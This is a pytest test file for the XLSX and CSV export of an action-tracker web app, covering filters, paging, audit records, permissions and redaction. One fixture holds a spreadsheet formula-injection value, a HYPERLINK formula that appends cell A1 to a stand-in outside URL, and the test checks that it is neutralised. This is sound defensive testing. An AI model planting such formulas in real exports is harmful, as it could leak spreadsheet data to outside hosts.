import csv
import datetime as dt
import io
import json
import re

import openpyxl
import pytest
import sqlalchemy as sa

from dard.accounts.enums import Role
from dard.actions import export
from dard.actions.enums import ActionStatus as S
from dard.actions.enums import Priority
from dard.actions.queries import ActionFilter
from dard.audit.models import AuditEvent
from dard.core.database import db
from dard.core.errors import ForbiddenError

HEADINGS = [
    "Reference",
    "Action",
    "Owner organisation",
    "Owner",
    "Priority",
    "Due",
    "Status",
    "Days overdue",
    "Latest update",
    "Latest update on",
    "Assigned on",
    "Meeting",
    "Outcome",
    "Closed on",
]
MARCH_3 = dt.datetime(2026, 3, 3)  # noqa: DTZ001 - openpyxl gives dates as moments without a zone
FORMULA = '=HYPERLINK("https://example.org/?" & A1, "Open")'


def workbook(browser, query=""):
    response = browser.get(f"/actions/export.xlsx{query}")
    return openpyxl.load_workbook(io.BytesIO(response.data))


def sheet_rows(book):
    return [[cell.value for cell in row] for row in book["Actions"].iter_rows()]


def csv_rows(browser, query=""):
    response = browser.get(f"/actions/export.csv{query}")
    assert response.content_type == "text/csv; charset=utf-8"
    return list(csv.reader(io.StringIO(response.data.decode("utf-8-sig"), newline="")))


def page_references(browser, query=""):
    found, number = [], 1
    while True:
        page = browser.get(f"/actions?page={number}{query}").text
        rows = re.findall(r"A-2026-\d{4}(?=</a>)", page)
        if not rows:
            return found
        found, number = found + rows, number + 1


@pytest.fixture
def officer(scene):
    return scene.world.browser(scene.world.person(Role.OFFICER, name="Remi Officer"))


@pytest.fixture
def varied(scene, still):
    """Four actions: overdue with an update, closed, low and later, and one whose text would be a formula."""
    overdue = scene.assign(owner_id=scene.owner.id, due_on=dt.date(2026, 2, 27))
    scene.take(overdue, S.IN_PROGRESS)
    still.move(minutes=5)
    scene.take(overdue, S.BLOCKED)
    closed = scene.assign()
    scene.take(closed, S.AWAITING_SIGN_OFF)
    still.move(minutes=5)
    scene.take(closed, S.CLOSED)
    scene.assign(priority=Priority.LOW, due_on=dt.date(2026, 6, 1))
    scene.assign(text=FORMULA)
    return scene


def test_the_workbook_holds_what_the_page_shows(varied, officer):
    book = workbook(officer)
    heading, *rows = sheet_rows(book)
    assert heading == HEADINGS
    assert [row[0] for row in rows] == page_references(officer)
    assert rows[0] == [
        "A-2026-0001",
        "Train custody officers to give out naloxone",
        "Fernshire Police",
        "Olu Owner",
        "High",
        MARCH_3 - dt.timedelta(days=4),
        "Blocked",
        4,
        "Now blocked",
        MARCH_3,
        MARCH_3,
        "March panel, 17 March 2026",
        None,
        None,
    ]
    closed = next(row for row in rows if row[0] == "A-2026-0002")
    assert closed[6:] == [
        "Closed",
        None,
        "Now closed",
        MARCH_3,
        MARCH_3,
        "March panel, 17 March 2026",
        "Now closed",
        MARCH_3,
    ]
    page = book["Actions"]
    assert page.freeze_panes == "A2"
    assert page.auto_filter.ref == "A1:N5"
    assert page["F2"].is_date


def test_the_csv_holds_the_same(varied, officer):
    heading, *rows = csv_rows(officer)
    assert heading == HEADINGS
    assert [row[0] for row in rows] == page_references(officer)
    assert rows[0][4:10] == ["High", "2026-02-27", "Blocked", "4", "Now blocked", "2026-03-03"]


@pytest.mark.parametrize(
    "query",
    [
        "&status=open",
        "&overdue=yes",
        "&priority=low&whose=",
        "&status=closed&due_to-day=1&due_to-month=4&due_to-year=2026",
    ],
)
def test_an_export_holds_what_the_filters_show(varied, officer, query):
    expected = page_references(officer, query)
    assert 0 < len(expected) < 4
    assert [row[0] for row in sheet_rows(workbook(officer, f"?{query[1:]}"))[1:]] == expected
    assert [row[0] for row in csv_rows(officer, f"?{query[1:]}")[1:]] == expected


def test_the_links_on_the_page_carry_the_filters_and_not_the_page(varied, officer):
    page = officer.get("/actions?status=open&priority=high&page=1").text
    assert 'href="/actions/export.xlsx?status=open&amp;priority=high"' in page
    assert 'href="/actions/export.csv?status=open&amp;priority=high"' in page
    assert 'href="/actions/export.xlsx"' in officer.get("/actions").text


def test_an_export_holds_all_pages(scene, officer):
    for _ in range(27):
        scene.assign()
    assert len(page_references(officer)) == 27
    assert [row[0] for row in sheet_rows(workbook(officer, "?page=2"))[1:]] == page_references(officer)


def test_a_formula_stays_text(varied, officer):
    book = workbook(officer)
    cell = next(row[1] for row in book["Actions"].iter_rows() if row[0].value == "A-2026-0004")
    assert (cell.data_type, cell.value) == ("s", FORMULA)
    assert cell.hyperlink is None
    text = next(row[1] for row in csv_rows(officer) if row[0] == "A-2026-0004")
    assert text == f"'{FORMULA}"


def test_about_says_what_was_exported_when_and_by_whom(varied, officer):
    book = workbook(officer, "?status=open&overdue=yes&due_from-day=1&due_from-month=2&due_from-year=2026")
    assert book.sheetnames == ["Actions", "About"]
    about = {row[0].value: row[1].value for row in book["About"].iter_rows()}
    assert about["What this is"] == "Action tracker, 1 action"
    assert about["Filter: Status"] == "All that are open"
    assert about["Filter: Overdue only"] == "Yes"
    assert about["Filter: Due on or after"] == "1 February 2026"
    assert about["Exported at"] == "3 March 2026 at 10:10am"
    assert about["Exported by"] == "Remi Officer"
    assert about["Handling"].startswith("Pseudonymised information")
    assert {row[0].value: row[1].value for row in workbook(officer)["About"].iter_rows()}["Filters"] == (
        "None: all actions"
    )


def test_an_export_never_names_a_case(varied):
    chair = varied.world.browser(varied.chair)
    for rows in (sheet_rows(workbook(chair)), csv_rows(chair)):
        assert not any(re.search(r"(?<!A-)2026-0001", str(value)) for row in rows for value in row)


def test_each_export_is_recorded(varied, officer):
    response = officer.get("/actions/export.csv?status=closed")
    assert response.headers["Content-Disposition"] == "attachment; filename=action-tracker-2026-03-03.csv"
    assert response.headers["Cache-Control"] == "no-store"
    with varied.world.at_work():
        event = db.session.scalar(sa.select(AuditEvent).where(AuditEvent.code == "action.tracker_exported"))
        assert json.loads(event.details) == {"form": "csv", "rows": 1}
        assert event.object_id == event.actor_id


def test_a_filter_that_cannot_be_read_exports_nothing(varied, officer):
    query = "?status=open&due_from-day=31&due_from-month=2&due_from-year=2026"
    for kind in ("xlsx", "csv"):
        response = officer.get(f"/actions/export.{kind}{query}", status=302)
        assert response.headers["Location"] == f"/actions{query}"
    officer.get(response.headers["Location"])
    assert "Due on or after must be a real date" in officer.text
    with varied.world.at_work():
        assert not db.session.scalar(sa.select(AuditEvent).where(AuditEvent.code == "action.tracker_exported"))


def test_members_do_not_export(varied):
    member = varied.world.browser(varied.owner)
    for kind in ("xlsx", "csv"):
        member.get(f"/actions/export.{kind}", status=403)
    assert "export" not in member.get("/actions").text
    with varied.world.at_work(), pytest.raises(ForbiddenError):
        export.export_tracker(varied.owner.actor, ActionFilter(), [], export.ExportForm.CSV)
